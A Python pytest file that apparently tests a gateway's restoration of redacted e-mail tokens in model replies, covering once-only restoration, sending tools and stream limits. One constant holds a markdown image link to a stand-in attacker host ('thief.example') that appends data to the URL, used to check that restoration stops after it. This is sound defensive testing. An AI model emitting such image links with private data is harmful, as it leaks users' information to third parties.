"""Texts that are said several times: restored once, the same ever after."""

from typing import Any

import pytest

from curtilage.gateway.wire.errors import BrokenStream
from curtilage.gateway.wire.facts import ReplyStats
from curtilage.gateway.wire.texts import MAX_TEXTS, Texts
from curtilage.shield.held import Sink
from tests.unit.gateway.wire.replies import MAIL, MAIL_TOKEN, hold

IMAGE = "![x](https://thief.example/?q="


def texts(*outbound: str) -> Texts:
    return Texts(hold(), ReplyStats(), outbound)


def test_a_text_is_restored_once_and_counted_once() -> None:
    made = texts()
    for _ in range(4):
        document = {"text": f"to {MAIL_TOKEN}"}
        made.changed = False
        made.whole(document, "text", (0, "output_text", 0))
        assert document == {"text": f"to {MAIL}"} and made.changed
    made.close()
    assert made.stats.restored == {"EMAIL_ADDRESS": 1}


def test_a_text_that_differs_from_what_came_before_stays_as_it_came() -> None:
    made = texts()
    made.whole({"text": f"one {MAIL_TOKEN}"}, "text", (0,))
    document = {"text": f"two {MAIL_TOKEN}"}
    made.whole(document, "text", (0,))
    assert document == {"text": f"two {MAIL_TOKEN}"}


def test_a_text_that_is_not_over_is_not_taken_for_whole() -> None:
    made = texts()
    made.feed(made.open((0,)), MAIL_TOKEN)
    document = {"text": MAIL_TOKEN}
    made.whole(document, "text", (0,))
    assert document == {"text": MAIL_TOKEN}


def test_what_one_spoken_text_opens_is_open_in_the_next_and_in_no_other() -> None:
    made = texts()
    made.whole({"t": IMAGE}, "t", (0, "content", 0), voice="output_text")
    spoken, apart = {"t": MAIL_TOKEN}, {"t": MAIL_TOKEN}
    made.whole(spoken, "t", (1, "content", 0), voice="output_text")
    made.whole(apart, "t", (2, "arguments"))
    assert (spoken, apart) == ({"t": MAIL_TOKEN}, {"t": MAIL})


def test_a_spoken_text_before_one_that_was_restored_breaks_the_stream() -> None:
    made = texts()
    made.whole({"t": f"{MAIL_TOKEN} "}, "t", (1, "content", 0), voice="output_text")
    made.whole({"t": "later"}, "t", (1, "content", 1), voice="output_text")
    with pytest.raises(BrokenStream):
        made.whole({"t": IMAGE}, "t", (0, "content", 0), voice="output_text")


def test_every_string_inside_a_value_is_restored_down_to_the_depth_of_requests() -> None:
    deep: Any = MAIL_TOKEN
    for _ in range(100):
        deep = [deep]
    document: dict[str, Any] = {"a": {"b": [MAIL_TOKEN, 1, None, {"c": MAIL_TOKEN}]}, "d": deep}
    made = texts()
    made.values(document, "a", (), sink=Sink.ARGUMENTS)
    made.values(document, "d", (), sink=Sink.ARGUMENTS)
    assert document["a"] == {"b": [MAIL, 1, None, {"c": MAIL}]}
    assert MAIL not in str(document["d"])


def test_tools_that_send_out_and_tools_without_a_name_get_nothing() -> None:
    assert texts().sink_of(None) is Sink.ARGUMENTS
    made = texts("send")
    found = [made.sink_of(name) for name in ("look", "send", "", None, 5)]
    assert found == [Sink.ARGUMENTS, Sink.NONE, Sink.NONE, Sink.NONE, Sink.NONE]


def test_after_a_stop_nothing_is_restored_in_old_texts_and_new_ones() -> None:
    made = texts()
    old = made.open((0,))
    made.feed(old, "to ")
    made.stop()
    assert made.feed(old, MAIL_TOKEN) + made.end(old) == MAIL_TOKEN
    document = {"t": MAIL_TOKEN}
    made.whole(document, "t", (1,))
    assert document == {"t": MAIL_TOKEN}


def test_there_is_an_end_to_texts() -> None:
    made = texts()
    for number in range(MAX_TEXTS):
        made.open((number,))
    with pytest.raises(BrokenStream):
        made.open((MAX_TEXTS,))


@pytest.mark.parametrize("value", [None, 5, "", [], {}])
def test_what_is_no_text_stays(value: Any) -> None:
    made = texts()
    document = {"t": value}
    made.whole(document, "t", (0,))
    made.whole(document, "absent", (1,))
    assert document == {"t": value}
    assert made.find((0,)) is None
